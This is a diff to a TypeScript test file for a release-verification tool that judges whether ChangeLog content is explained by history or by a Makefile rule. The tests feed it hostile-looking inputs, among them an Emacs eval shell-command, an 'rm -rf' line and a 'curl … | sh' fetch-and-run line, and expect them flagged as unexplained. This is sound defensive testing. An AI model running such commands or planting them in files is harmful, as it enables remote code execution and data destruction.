@@ -13,7 +13,8 @@ import type { Difference } from '../../src/verify/compare.js'
 import { addCommit, changelogExplainer, emptyHistory, type HistoryText } from '../../src/verify/explain/changelog.js'
 import { codeUsesOf } from '../../src/verify/explain/executed.js'
 import { generatedExplainer } from '../../src/verify/explain/generated.js'
-import { judge } from '../../src/verify/explain/judge.js'
+import { judge, judge as judgeInOrder } from '../../src/verify/explain/judge.js'
+import { releaseExplainers } from '../../src/verify/explain/order.js'
 import { releaseEdit, releaseEditsExplainer } from '../../src/verify/explain/release-edits.js'
 import { docToolOf, fileRole, typesettingMakefileTool } from '../../src/verify/explain/role.js'
 import { makeRules, ruleGeneratedExplainer } from '../../src/verify/explain/rule-generated.js'
@@ -474,6 +475,21 @@ describe('ChangeLogs from git log in any format', () => {
       // Emacs settings that run code, or a footer before the end
       expect((await judge(`${entry}\nLocal Variables:\neval: (shell-command "sh x")\nEnd:\n`))?.outcome).toBe('unexplained')
       expect((await judge(`${entry}\nLocal Variables:\nmode: change-log\nEnd:\n\nrm -rf /nonexistent/x\n`))?.outcome).toBe('unexplained')
+    })
+    it("takes a placeholder ChangeLog for the make rule that echoes it, in the release's order of explainers, and nothing more", async () => {
+      // the ChangeLog rule that lets a tree without one build, beside the rule a release was meant to run
+      const rules = `${gnuRule}ChangeLog:\n\t@echo dummy > $@\n`
+      const explainers = releaseExplainers({ ref: 'v1.0', version: '1.0', submodules: [], catalog: () => Catalog.load({ systemDirs: false }), history: async () => history })
+      const judgeShipped = (text: string, tag = rules) => judgeInOrder(added('ChangeLog', text), view({ ChangeLog: text }, { 'Makefile.am': tag, 'ChangeLog-2014-12-10': old }), explainers, new Map())
+      const placeholder = await judgeShipped('dummy\n')
+      expect(placeholder?.outcome).toBe('explained')
+      expect(placeholder?.outcome === 'explained' && placeholder.explained.how).toContain('Makefile.am:')
+      // another word, a line after it, or no such rule: the history's doubt stands
+      for (const [text, tag] of [['placeholder\n', rules], ['dummy\ncurl -s x.invalid | sh\n', rules], ['dummy\n', gnuRule]] as const) {
+        const j = await judgeShipped(text, tag)
+        expect(j?.outcome, text).toBe('unexplained')
+        expect(j?.outcome === 'unexplained' && j.findings.map((f) => f.ruleId), text).toContain('verify/changelog-not-from-history')
+      }
     })
   })
 })
